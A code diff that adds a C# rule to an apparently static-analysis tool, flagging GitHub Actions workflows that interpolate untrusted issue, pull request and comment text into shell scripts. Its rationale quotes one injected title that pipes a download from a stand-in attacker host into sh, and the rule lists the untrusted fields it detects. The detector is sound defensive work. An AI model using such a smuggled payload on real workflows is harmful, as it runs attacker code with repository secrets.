@@ -1,0 +1,63 @@
+using Seaworthy.Model;
+using Seaworthy.Model.Declared.Workflows;
+
+namespace Seaworthy.Rules.Pipelines;
+
+/// <summary>Text that anybody may write is put into a script before the shell reads it.</summary>
+internal sealed class UntrustedInputInScript : Rule<(string Name, WorkflowStep Step, WorkflowTrigger? Open)>
+{
+    public override RuleInfo Info { get; } =
+        new()
+        {
+            Id = "pipelines/untrusted-input-in-script",
+            Title = "Text of strangers in a script",
+            Area = Area.Security,
+            Severity = Severity.High,
+            Rationale = "GitHub puts the text into the script before the shell reads it. A title such as `\"; curl evil.example | sh; \"` runs on the runner, with its token and secrets.",
+            Holds = "No script holds text that strangers write.",
+        };
+
+    private static readonly string[] Strangers =
+    [
+        "github.event.issue.title",
+        "github.event.issue.body",
+        "github.event.pull_request.title",
+        "github.event.pull_request.body",
+        "github.event.pull_request.head.ref",
+        "github.event.pull_request.head.label",
+        "github.event.comment.body",
+        "github.event.review.body",
+        "github.event.discussion.title",
+        "github.event.discussion.body",
+        "github.event.head_commit.message",
+        "github.head_ref",
+    ];
+
+    private static readonly string[] OpenEvents = ["pull_request_target", "issues", "issue_comment", "discussion", "discussion_comment", "workflow_run"];
+
+    public override IEnumerable<(string Name, WorkflowStep Step, WorkflowTrigger? Open)> Subjects(Deployment deployment) =>
+        from workflow in deployment.Of<Workflow>()
+        let open = workflow.Triggers.FirstOrDefault(trigger => OpenEvents.Contains(trigger.Event))
+        from job in workflow.Jobs
+        from step in job.Steps
+        where step.Run is not null
+        select ($"{workflow.File.Name}: {job.Id}", step, open);
+
+    protected override Subject Identify((string Name, WorkflowStep Step, WorkflowTrigger? Open) subject) => new(subject.Name, subject.Step.Span);
+
+    protected override IEnumerable<Verdict> Check((string Name, WorkflowStep Step, WorkflowTrigger? Open) subject, Deployment deployment)
+    {
+        var found = subject.Step.Run?.Text.References.FirstOrDefault(reference => Strangers.Contains(reference.ToString(), StringComparer.OrdinalIgnoreCase));
+        if (found is null)
+        {
+            yield break;
+        }
+
+        var message = $"{subject.Name} puts {found} into a script: whoever writes that text runs commands on the runner.";
+        // With pull_request a stranger's run has no secrets; the other events run with those of the repository.
+        yield return (subject.Open is not null ? Fail(found.Span, message) : Warn(found.Span, message).As(Severity.Medium))
+            .Related(subject.Open?.Span)
+            .Remedy($"Give the text to the step by `env:` and write `\"$NAME\"` in {found.Span}.")
+            .Verify($"grep -n '{found}' {found.Span.File.Path}");
+    }
+}
